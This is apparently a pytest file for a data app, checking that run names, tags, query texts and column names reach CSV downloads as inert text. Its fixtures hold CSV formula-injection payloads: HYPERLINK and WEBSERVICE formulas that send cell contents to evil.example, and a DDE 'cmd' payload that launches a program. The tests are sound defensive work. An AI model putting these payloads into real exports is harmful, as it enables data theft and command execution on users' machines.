"""CSV formula injection (CWE-1236): run names, tags, corpus texts and column names that a spreadsheet
would run as a formula (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``, ``@SUM(1+1)``, a leading ``-``, tab or
carriage return) reach the CSV downloads inert: a leading ``'`` and the field quoted; numbers stay numbers.

Every CSV the app writes goes through ``ui.widgets.csv_download`` -> ``coreb_core.present.csv_cells.csv_bytes``
(the CLI and the HTML report write no CSV); a guard test keeps it that way.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from tests import dump
from tests.builders import REPO, app_test, every_document_run

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
EVIL_TAGS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
EVIL_QUERY = '=WEBSERVICE("http://evil.example/"&A2)'
EVIL_MODEL = "@SUM(1+1)"


def parsed(data: bytes) -> list[list[str]]:
    """The rows of a CSV as a spreadsheet's importer splits them (quotes removed)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ tab or CR and not a plain number."""
    def number(cell: str) -> bool:
        return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """Every CSV a page offers, by file name, built as if its button were pressed."""
    import streamlit as st

    offered: dict[str, bytes] = {}

    def record(label, data, file_name=None, mime=None, **kwargs):
        offered[file_name] = data() if callable(data) else data
        return False

    monkeypatch.setattr(st, "download_button", record)
    return offered


@pytest.fixture
def evil_release(cache) -> Path:
    """The tiny release, its T2C search query's text and its solutions' model a formula, with one run named
    and tagged with formulas."""
    from coreb_core.data.ingest import import_release
    from coreb_core.data.sources import read_local
    from coreb_core.runs.folders import tag_run, update_run

    rows = dump.rows()
    rows["text2code_queries"][1]["query"] = EVIL_QUERY
    for doc in rows["code_corpus"]:
        doc["model"] = EVIL_MODEL
    import_release(read_local(dump.write_parquet_folder(cache.parent / "evil-src", rows))[2], "tiny", cache)
    run_id = every_document_run(cache, "tiny", "evil_model")
    update_run(run_id, EVIL_NAME, root=cache)
    tag_run(run_id, EVIL_TAGS, root=cache)
    return cache


def test_leaderboard_csv_keeps_a_formula_run_name_inert(evil_release, downloads):
    """was: leaderboard.csv held the run name ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` bare, a live
    formula in any spreadsheet."""
    at = app_test("overview.py", evil_release, {"release": "tiny"}).run()
    assert not at.exception, [e.value for e in at.exception]
    rows = parsed(downloads["leaderboard.csv"])
    cells = [c for row in rows for c in row if EVIL_NAME in c]
    assert cells and set(cells) == {"'" + EVIL_NAME}, rows
    assert live_formulas(rows) == []


def test_inspector_queries_csv_keeps_a_formula_query_text_inert(evil_release, downloads):
    """was: inspector_queries_tiny_t2c.csv held the query text ``=WEBSERVICE(…)`` from the corpus bare."""
    at = app_test("inspector.py", evil_release, {"release": "tiny", "task": "t2c"}).run()
    assert not at.exception, [e.value for e in at.exception]
    rows = parsed(downloads["inspector_queries_tiny_t2c.csv"])
    cells = [c for row in rows for c in row if EVIL_QUERY in c]
    assert cells and set(cells) == {"'" + EVIL_QUERY}, rows
    assert live_formulas(rows) == []


def test_csv_download_neutralises_tags_and_column_names_and_keeps_numbers(downloads):
    """was: ``frame.to_csv(index=False)``: tags ``+cmd|' /C calc'!A0``, ``@SUM(1+1)`` and a column named
    ``=1+1`` (an SQL alias) written bare."""
    from ui.widgets import csv_download

    frame = pd.DataFrame({"=1+1": ["x", "y", "z"], "tag": EVIL_TAGS, "delta": [-0.5, 0.25, -3.0],
                          "text": ["\t=1", "\r=1", "-1"]})
    csv_download(frame, "tags")
    data = downloads["tags.csv"]
    rows = parsed(data)
    assert rows[0] == ["'=1+1", "tag", "delta", "text"]
    assert [r[1] for r in rows[1:]] == ["'" + t for t in EVIL_TAGS]
    assert [r[3] for r in rows[1:]] == ["'\t=1", "'\r=1", "'-1"]  # a text "-1" is quoted too (said in safe_cell)
    assert live_formulas(rows) == []
    back = pd.read_csv(io.BytesIO(data))
    assert back["delta"].tolist() == [-0.5, 0.25, -3.0]  # negative numbers stay numbers, unquoted
    assert b",-0.5," in data


def test_a_semicolon_locale_cannot_split_a_formula_out_of_a_cell(downloads):
    """was: ``x;=1+1`` written unquoted, so a spreadsheet splitting on ';' started a cell ``=1+1``."""
    from ui.widgets import csv_download

    csv_download(pd.DataFrame({"name": ["x;=1+1"], "n": [1]}), "semi")
    assert downloads["semi.csv"].decode().splitlines()[1] == '"x;=1+1",1'


def test_every_csv_the_app_writes_goes_through_csv_bytes():
    """was: ``ui/widgets.py`` wrote ``frame.to_csv(index=False)`` itself; no writer may bypass ``csv_bytes``."""
    sources = [p for d in ("coreb_core", "ui", "pages") for p in (REPO / d).rglob("*.py")] + [REPO / "app.py"]
    writers = [f"{p.relative_to(REPO)}:{i}" for p in sources
               for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
               if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(|text/csv", line)
               and "chart_specs.py" not in str(p)  # hashes a frame for a cache key; writes no file
               and "csv_cells.py" not in str(p)]
    assert writers == ["ui/widgets.py:" + str(next(
        i for i, line in enumerate((REPO / "ui/widgets.py").read_text().splitlines(), 1) if "text/csv" in line))]
    assert "csv_bytes(frame)" in (REPO / "ui/widgets.py").read_text()



def test_inspector_list_and_positions_csvs_keep_a_formula_model_name_inert(evil_release, downloads):
    """was: the inspector's ranked-list and positions CSVs held the corpus's solution model
    ``@SUM(1+1)`` bare."""
    from coreb_core.runs.folders import list_runs

    run_id = list_runs("tiny", evil_release)[0].run_id
    at = app_test("inspector.py", evil_release, {"release": "tiny", "task": "t2c", "runs": run_id,
                                                 "query": "q_t2c_search_python_0002"}).run()
    assert not at.exception, [e.value for e in at.exception]
    lists = {n: d for n, d in downloads.items() if n.startswith(("inspector_list_", "inspector_positions_"))}
    assert len(lists) == 2, sorted(downloads)
    for name, data in lists.items():
        cells = [c for row in parsed(data) for c in row if EVIL_MODEL in c]
        assert cells and set(cells) == {"'" + EVIL_MODEL}, name
        assert live_formulas(parsed(data)) == [], name
